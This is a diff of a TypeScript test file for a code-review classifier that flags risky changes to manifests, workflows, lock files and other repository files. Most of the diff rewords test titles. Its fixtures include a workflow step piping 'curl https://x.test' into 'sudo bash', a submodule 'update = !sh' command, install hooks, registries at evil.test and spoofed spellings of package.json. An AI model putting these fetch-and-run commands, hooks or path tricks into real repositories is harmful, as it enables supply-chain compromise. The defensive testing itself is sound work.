@@ -1,4 +1,4 @@
-// What a reviewer is told about a changed path (attacks A97, A101, A119; risk flags of the review).
+// test/review/lanes.test.ts: the lanes and reasons that a reviewer sees for a changed path (attacks A97, A101, A119).
 import { describe, expect, test } from 'vitest';
 import { LANE_RULES, MEDIA_FILES, TEST_FILES } from '../../src/review/lane-rules.ts';
 import { classify, type Content } from '../../src/review/lanes.ts';
@@ -85,12 +85,12 @@ const INERT =
   test/app.test.ts i18n/de.json src/build.ts tsx/setup.ts src/__snapshots__/a.tsx.snap docs/deploy.rst`);
 
 describe('the rules', () => {
-  test('each have an example', () => {
+  test('each rule has an example', () => {
     expect(Object.keys(EXAMPLES)).toEqual(LANE_RULES.map((rule) => rule.id));
   });
 
   test.each(LANE_RULES.map((rule) => [rule.id, rule] as const))(
-    '%s tells of its files, at any depth and in any case',
+    '%s matches its files, at any depth and in any case',
     (id, rule) => {
       const spellings = (EXAMPLES[id] ?? []).flatMap((path) => [
         path,
@@ -104,7 +104,7 @@ describe('the rules', () => {
     },
   );
 
-  test('hold for every one of their patterns', () => {
+  test('every pattern of a rule matches', () => {
     const missed = LANE_RULES.flatMap((rule) =>
       rule.match.flatMap((pattern) => {
         const full = pattern.replace('/**', '/some/file').replaceAll('*', 'x');
@@ -115,7 +115,7 @@ describe('the rules', () => {
     expect(missed).toEqual([]);
   });
 
-  test('are written once, and their sentences end', () => {
+  test('each pattern occurs once, and each reason is a sentence', () => {
     const patterns = [...LANE_RULES.flatMap((rule) => rule.match), ...MEDIA_FILES].map((pattern) =>
       pattern.toLowerCase(),
     );
@@ -128,19 +128,19 @@ describe('the rules', () => {
     expect(TEST_FILES.length).toBe(new Set(TEST_FILES).size);
   });
 
-  test('say nothing about ordinary files', () => {
+  test('ordinary files have no reasons', () => {
     const told = INERT.map((path) => ({ path, ...classify({ path, before: file('a\n'), after: file('b\n') }) }));
     expect(told).toEqual(INERT.map((path) => ({ path, lane: 'inert', reasons: [] })));
   });
 
-  test('look-only rules leave the lane inert', () => {
+  test('look-only rules keep the lane inert', () => {
     expect(classify({ path: '.nvmrc', before: null, after: file('20\n') })).toEqual({
       lane: 'inert',
       reasons: ['Chooses the version of a tool that others then run.'],
     });
   });
 
-  test('are not stepped around by spelling', () => {
+  test('other spellings of a path do not bypass a rule', () => {
     const spellings = [
       ...paths(
         'PACKAGE.JSON ./package.json package.json. a\\package.json package.json::$DATA pac\u212aage.json ｐackage.json',
@@ -155,14 +155,14 @@ describe('the rules', () => {
     expect(classify({ path: '.husky', before: null, after: link('elsewhere') }).lane).toBe('host');
   });
 
-  test('count for a deleted file', () => {
+  test('a rule applies to a deleted file', () => {
     expect(classify({ path: 'Makefile', before: file('all:\n'), after: null })).toEqual({
       lane: 'host',
       reasons: ['make runs the recipes in it.', 'It is deleted.'],
     });
   });
 
-  test('count for both names of a rename', () => {
+  test('a rule applies to both names of a rename', () => {
     const same = file('all:\n');
     expect(classify({ path: 'notes.txt', from: 'Makefile', before: same, after: same })).toEqual({
       lane: 'host',
@@ -174,7 +174,7 @@ describe('the rules', () => {
     });
   });
 
-  test('the stricter of two rules decides, and comes first', () => {
+  test('the stricter of two rules decides and comes first', () => {
     expect(classify({ path: '.github/workflows/run.sh', before: null, after: file('true\n') })).toEqual({
       lane: 'host',
       reasons: ['A script that people and tools run directly.', 'Runs in CI with the permissions of the repository.'],
@@ -183,7 +183,7 @@ describe('the rules', () => {
 });
 
 describe('inside known files', () => {
-  test('install scripts of a package are told first', () => {
+  test('install scripts of a package come first', () => {
     const before = JSON.stringify({ scripts: { test: 'vitest', old: 'x' }, dependencies: { a: '1' } });
     const after = JSON.stringify({
       scripts: { test: 'vitest; x', postinstall: 'node x.js' },
@@ -203,7 +203,7 @@ describe('inside known files', () => {
     });
   });
 
-  test('a byte order mark, broken JSON or odd values hide no script', () => {
+  test('a byte order mark, broken JSON or unusual values hide no script', () => {
     expect(facts('package.json', null, '\ufeff{"scripts":{"prepare":"x"}}').slice(0, 1)).toEqual([
       'Adds script prepare: x',
     ]);
@@ -220,7 +220,7 @@ describe('inside known files', () => {
     ]);
   });
 
-  test('a harmless file that becomes a manifest is new in all it says', () => {
+  test('all content of a file that becomes a manifest counts as new', () => {
     const text = file('{"scripts":{"postinstall":"x"}}');
     expect(classify({ path: 'package.json', from: 'notes.json', before: text, after: text }).reasons[0]).toBe(
       'Adds script postinstall: x',
@@ -244,12 +244,12 @@ describe('inside known files', () => {
     });
   });
 
-  test('many changes are counted, not listed', () => {
+  test('many changes are summarized by a count', () => {
     const scripts = Object.fromEntries(Array.from({ length: 500 }, (_, at) => [`s${at}`, 'x']));
     expect(facts('package.json', '{}', JSON.stringify({ scripts }))).toHaveLength(13 + 1);
   });
 
-  test('drivers and hidden diffs in .gitattributes', () => {
+  test('drivers and hidden diffs in .gitattributes are reported', () => {
     expect(
       facts(
         '.gitattributes',
@@ -265,7 +265,7 @@ describe('inside known files', () => {
     ]);
   });
 
-  test('addresses and commands in .gitmodules', () => {
+  test('URLs and commands in .gitmodules are reported', () => {
     expect(
       facts('.gitmodules', null, '[submodule "a"]\n\tpath = lib\n\turl = https://evil.test/a\n\tupdate = !sh x\n'),
     ).toEqual([
@@ -275,7 +275,7 @@ describe('inside known files', () => {
     ]);
   });
 
-  test('permissions, triggers and loose ends in workflows', () => {
+  test('permissions, triggers and unpinned actions in workflows are reported', () => {
     const before = 'on: push\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n';
     const after = `on: [push, pull_request_target]\npermissions: write-all\njobs:\n  a:\n    permissions:\n      contents: write\n      issues: read\n    permissions: {}\n    runs-on: self-hosted\n    steps:
       - uses: actions/checkout@v4\n      - uses: x/y@main\n      - uses: ./local\n      - uses: x/z@${'a'.repeat(40)} # v1\n      - run: curl https://x.test | sudo bash
@@ -292,12 +292,12 @@ describe('inside known files', () => {
     ]);
   });
 
-  test('a second copy of a line is an added line', () => {
+  test('a second copy of a line counts as an added line', () => {
     const line = '      contents: write\n';
     expect(facts('.github/workflows/ci.yml', line, line + line)).toEqual(['Sets permissions: contents: write']);
   });
 
-  test('another registry in a lock file', () => {
+  test('another registry in a lock file is reported', () => {
     const base = lock('https://registry.test/a.tgz');
     expect(
       classify({ path: 'package-lock.json', before: file(base), after: file(lock('https://registry.test/b.tgz')) }),
@@ -327,13 +327,13 @@ describe('inside known files', () => {
     }
   });
 
-  test('a package called like a field for readers hides no address', () => {
+  test('a package named like an ignored field hides no URL', () => {
     expect(
       facts('package-lock.json', '{}', '{"dependencies":{"license":{"version":"1","resolved":"https://evil.test/x"}}}'),
     ).toEqual(['Takes packages from https://evil.test, which it did not before.']);
   });
 
-  test('other lock files are read as text, and spelled-out addresses are told', () => {
+  test('other lock files are read as text, and their URLs are reported', () => {
     const yarn = 'a@1:\n  resolved "https://registry.test/a.tgz"\n';
     expect(facts('yarn.lock', yarn, `${yarn}b@1:\n  resolved "https://evil.test/b.tgz"\n`)).toEqual([
       'Takes packages from https://evil.test, which it did not before.',
@@ -346,7 +346,7 @@ describe('inside known files', () => {
     ]);
   });
 
-  test('the build backend of a Python project', () => {
+  test('the build backend of a Python project is reported', () => {
     const before = '[build-system]\nrequires = ["hatchling"]\n[project]\nname = "x"\n';
     expect(
       facts(
@@ -357,7 +357,7 @@ describe('inside known files', () => {
     ).toEqual(['Adds to [build-system]: requires = ["evil"]', 'Adds to [project.scripts]: x = "x:main"']);
   });
 
-  test('where packages come from', () => {
+  test('changed package sources are reported', () => {
     expect(
       facts('.npmrc', '', 'registry=https://secret@evil.test/\nignore-scripts=false\nscript-shell=/tmp/x\n'),
     ).toEqual([
@@ -380,7 +380,7 @@ describe('inside known files', () => {
     ]);
   });
 
-  test('tasks that run when a folder is opened', () => {
+  test('tasks that run when a folder opens are reported', () => {
     expect(
       facts(
         '.vscode/tasks.json',
@@ -574,7 +574,7 @@ describe('any file', () => {
     expect(told).toEqual({ lane: /JWT|password/.test(kind) ? 'inert' : 'ci', reasons: [`Line 2 looks like ${kind}.`] });
   });
 
-  test('with references to secrets is no leak', () => {
+  test('references to secrets are not reported as secrets', () => {
     const text =
       'process.env.AWS_SECRET_ACCESS_KEY\n//r.test/:_authToken=${NPM_TOKEN}\nhttps://${user}:${pass}@x.test\nsk-something\nAKIAX\nhttps://x.test:80/@scope/y\n';
     expect(classify({ path: 'src/a.ts', before: null, after: file(text) })).toEqual({ lane: 'inert', reasons: [] });
@@ -604,7 +604,7 @@ describe('a symbolic link', () => {
     });
   });
 
-  test('inside the project is told with its target', () => {
+  test('inside the project is reported with its target', () => {
     for (const [path, target] of [
       ['a/b/link', '../../src'],
       ['link', './src/x'],
@@ -636,7 +636,7 @@ describe('a symbolic link', () => {
   });
 });
 
-test('hostile text does not make the review slow', () => {
+test('hostile text does not slow the review down', () => {
   const started = performance.now();
   const pieces = [
     'eyJ',
@@ -683,7 +683,7 @@ function obeys(path: string, rule: (typeof LANE_RULES)[number]): boolean {
   return reasons.includes(rule.reason) && strictEnough.includes(lane);
 }
 
-/** What is told beyond the sentences of the rules themselves. */
+/** The reasons beyond those of the rules. */
 function facts(path: string, before: string | null, after: string): string[] {
   const told = classify({ path, before: before === null ? null : file(before), after: file(after) }).reasons;
   return told.filter((reason) => !LANE_RULES.some((rule) => rule.reason === reason));
